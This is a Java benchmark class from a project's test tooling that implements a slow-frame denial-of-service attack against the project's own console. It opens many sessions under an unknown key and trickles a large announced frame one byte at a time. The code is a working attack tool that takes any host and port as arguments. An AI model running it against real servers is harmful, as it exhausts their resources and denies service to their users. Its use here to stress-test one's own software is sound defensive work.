package dev.vigil.swarm.bench;

import dev.vigil.protocol.tls.PeerCheck;
import dev.vigil.protocol.tls.TlsContexts;
import dev.vigil.protocol.tls.TlsIdentity;
import java.io.DataOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.time.Duration;
import java.util.concurrent.atomic.AtomicLong;
import java.util.concurrent.locks.LockSupport;
import javax.net.ssl.SSLContext;
import javax.net.ssl.SSLSocket;

/**
 * The slow-frame attack of issue #16, for {@code bench/trickle-attack.sh}: sessions from a key the
 * console has never seen, each announcing a large frame and sending its body one byte at a time,
 * reconnecting when the console closes them. Prints one line every five seconds (open sessions,
 * connections made, closed by the console) so a script can read the console's heap beside it. Not
 * part of the product.
 *
 * <p>Arguments: {@code HOST PORT SESSIONS ANNOUNCED_BYTES BYTE_EVERY_MILLIS DURATION_SECONDS}.
 */
public final class TrickleAttack {
  private final AtomicLong open = new AtomicLong();
  private final AtomicLong connects = new AtomicLong();
  private final AtomicLong closedByConsole = new AtomicLong();
  private final AtomicLong refusedAtConnect = new AtomicLong();

  public static void main(String[] args) throws Exception {
    String host = args[0];
    int port = Integer.parseInt(args[1]);
    int sessions = Integer.parseInt(args[2]);
    int announced = Integer.parseInt(args[3]);
    Duration every = Duration.ofMillis(Long.parseLong(args[4]));
    long until = System.nanoTime() + Duration.ofSeconds(Long.parseLong(args[5])).toNanos();
    SSLContext tls = TlsContexts.create(TlsIdentity.create("intruder"), PeerCheck.ANY);
    TrickleAttack attack = new TrickleAttack();
    for (int i = 0; i < sessions; i++) {
      Thread.ofVirtual().start(() -> attack.keepOne(tls, host, port, announced, every, until));
    }
    while (System.nanoTime() < until) {
      Thread.sleep(5_000);
      System.out.printf(
          "open=%d connects=%d closed_by_console=%d refused=%d%n",
          attack.open.get(),
          attack.connects.get(),
          attack.closedByConsole.get(),
          attack.refusedAtConnect.get());
    }
    System.exit(0);
  }

  /** One attacker slot: a session that trickles its frame, again whenever the console closes it. */
  private void keepOne(
      SSLContext tls, String host, int port, int announced, Duration every, long until) {
    while (System.nanoTime() < until) {
      SSLSocket socket;
      try {
        socket = (SSLSocket) tls.getSocketFactory().createSocket(host, port);
        TlsContexts.configure(socket);
        socket.startHandshake();
      } catch (IOException e) {
        refusedAtConnect.incrementAndGet();
        LockSupport.parkNanos(every.toNanos());
        continue;
      }
      connects.incrementAndGet();
      open.incrementAndGet();
      try (socket) {
        OutputStream out = socket.getOutputStream();
        new DataOutputStream(out).writeInt(announced);
        out.write('{');
        out.flush();
        for (int sent = 1; sent < announced && System.nanoTime() < until; sent++) {
          LockSupport.parkNanos(every.toNanos());
          out.write(' ');
          out.flush();
        }
      } catch (IOException e) {
        closedByConsole.incrementAndGet();
        LockSupport.parkNanos(every.toNanos()); // a slow attacker, not a connection flood
      } finally {
        open.decrementAndGet();
      }
    }
  }
}
